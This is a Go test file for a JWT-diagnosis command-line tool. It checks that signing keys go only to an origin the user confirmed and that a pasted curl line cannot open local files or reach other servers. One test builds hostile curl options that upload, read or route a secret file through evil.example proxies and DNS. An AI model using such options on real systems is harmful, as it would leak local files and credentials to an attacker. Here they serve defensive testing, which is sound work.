package cmd

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/jwtdoc/jwtdoc/internal/env"
	"github.com/jwtdoc/jwtdoc/internal/token"
)

// elsewhere resolves every name to a public address, and dials a server of ours whatever the address.
type elsewhere struct {
	env.Network
	server  string
	mu      sync.Mutex
	dialled []string
}

func (e *elsewhere) LookupHost(context.Context, string) ([]string, error) {
	return []string{"203.0.113.7"}, nil
}

func (e *elsewhere) Dial(ctx context.Context, network, address string, guard func(string) error) (net.Conn, error) {
	e.mu.Lock()
	e.dialled = append(e.dialled, address)
	e.mu.Unlock()
	if guard != nil {
		if err := guard("203.0.113.7:80"); err != nil {
			return nil, err
		}
	}
	return e.Network.Dial(ctx, network, e.server, nil)
}

// refusingServer refuses everything and keeps what it was asked with.
func refusingServer(t *testing.T) (address string, seen func() []*http.Request) {
	t.Helper()
	var mu sync.Mutex
	var all []*http.Request
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		all = append(all, r)
		mu.Unlock()
		w.Header().Set("WWW-Authenticate", "Bearer")
		w.WriteHeader(http.StatusUnauthorized)
		_, _ = io.WriteString(w, `{"detail":"Could not validate credentials"}`)
	}))
	t.Cleanup(s.Close)
	return s.Listener.Addr().String(), func() []*http.Request {
		mu.Lock()
		defer mu.Unlock()
		got := all
		all = nil
		return got
	}
}

// minted counts the requests with a token that jwtdoc made.
func minted(all []*http.Request) int {
	n := 0
	for _, r := range all {
		if id, ok := token.Parse(r.Header.Get("Authorization")).Claim("jti"); ok && strings.Contains(string(id.Raw), "jwtdoc-") {
			n++
		}
	}
	return n
}

func runElsewhere(server, stdin string, args ...string) (out string, code int, dialled []string) {
	var b strings.Builder
	e := env.OS()
	e.SpareMemory = nil // the memory of the tests is not the program's
	network := &elsewhere{Network: e.Net, server: server}
	e.In, e.Out, e.Err, e.IsTerminal, e.Environ, e.Net = strings.NewReader(stdin), &b, &b, env.Terminal{}, nil, network
	code = Main(e, args)
	return b.String(), code, network.dialled
}

// A paste says where it goes; what the user adds does not go there on its word alone.
func TestKeysGoOnlyWhereTheUserSaid(t *testing.T) {
	server, seen := refusingServer(t)
	dir := t.TempDir()
	key := filepath.Join(dir, "key")
	if err := os.WriteFile(key, []byte("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b8a1"), 0o600); err != nil {
		t.Fatal(err)
	}
	stale := signed(t, dir, "--sub", "3", "--ttl=-1h", "--iat=-2h")
	line := []string{"curl", "http://api.example.com/users", "-H", "Authorization: Bearer " + stale}

	out, code, _ := runElsewhere(server, "", append([]string{"diagnose", "-j", "--secret-file", key}, line...)...)
	all := seen()
	if code != 1 || len(all) < 2 || minted(all) != 0 || !strings.Contains(out, `"keys-withheld"`) {
		t.Errorf("only pasted: exit %d, %d requests, %d with a token made here\n%s", code, len(all), minted(all), out)
	}
	out, code, _ = runElsewhere(server, "", append([]string{"diagnose", "-j", "--secret-file", key, "--url", "http://api.example.com"}, line...)...)
	all = seen()
	if code != 1 || minted(all) == 0 || strings.Contains(out, `"keys-withheld"`) {
		t.Errorf("typed: exit %d, %d requests, %d with a token made here\n%s", code, len(all), minted(all), out)
	}
	for _, r := range all {
		// Nonsense is asked for without a credential: does the server know its paths?
		nonsense := strings.HasPrefix(r.URL.Path, "/jwtdoc-") && r.Header.Get("Authorization") == ""
		if r.Host != "api.example.com" || r.URL.Path != "/users" && !nonsense {
			t.Errorf("%s%s was asked: --url confirms the origin and replaces nothing", r.Host, r.URL.Path)
		}
	}

	// On this machine nobody else listens.
	out, stderr, code := runArgs("", "diagnose", "-j", "--secret-file", key, "curl", "http://"+server+"/users", "-H", "Authorization: Bearer "+stale)
	if all = seen(); code != 1 || minted(all) == 0 {
		t.Errorf("local: exit %d, %d requests, %d with a token made here\n%s%s", code, len(all), minted(all), out, stderr)
	}

	for _, added := range [][]string{{"--token", stale}, {"-H", "X-Api-Key: 1"}, {"-d", "a=1"}} {
		out, code, dialled := runElsewhere(server, "", slices.Concat([]string{"diagnose"}, added, line)...)
		if code != 2 || len(seen()) != 0 || len(dialled) != 0 || !strings.Contains(out, "--url http://api.example.com") {
			t.Errorf("%s: exit %d, dialled %q\n%s", added[0], code, dialled, out)
		}
	}
}

// Nothing in a pasted line opens a file or reaches another server.
func TestAPastedLineReachesNothingButItsOrigin(t *testing.T) {
	server, seen := refusingServer(t)
	secret := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(secret, []byte("canary=canary"), 0o600); err != nil {
		t.Fatal(err)
	}
	options := "-d @" + secret + " -H @" + secret + " -b " + secret + " -K " + secret + " -x http://evil.example:1 --unix-socket " + secret + " -o " + secret + "x -D " + secret + "y -c " + secret + "z" +
		" --resolve api.example.com:80:198.51.100.1 --connect-to ::evil.example:80 --netrc-file " + secret + " -T " + secret + " --doh-url http://evil.example/ -X GET"
	const line = "curl http://api.example.com/users "
	words := append([]string{"diagnose"}, strings.Fields(line+options)...)
	for name, run := range map[string]func() (string, int, []string){
		"words":          func() (string, int, []string) { return runElsewhere(server, "", words...) },
		"standard input": func() (string, int, []string) { return runElsewhere(server, line+options, "diagnose") },
	} {
		out, code, dialled := run()
		if code != 1 {
			t.Errorf("%s: exit %d\n%s", name, code, out)
		}
		for _, address := range dialled {
			if address != "api.example.com:80" {
				t.Errorf("%s: dialled %s", name, address)
			}
		}
		for _, r := range seen() {
			if len(r.Cookies()) > 0 || r.ContentLength > 0 || r.URL.Path != "/users" {
				t.Errorf("%s: %s %s with %d bytes and %v", name, r.Method, r.URL, r.ContentLength, r.Cookies())
			}
		}
		if strings.Contains(out, "canary") {
			t.Errorf("%s: the file was read:\n%s", name, out)
		}
	}
	for _, made := range []string{"x", "y", "z"} {
		if _, err := os.Stat(secret + made); err == nil {
			t.Errorf("%s was written", secret+made)
		}
	}
}
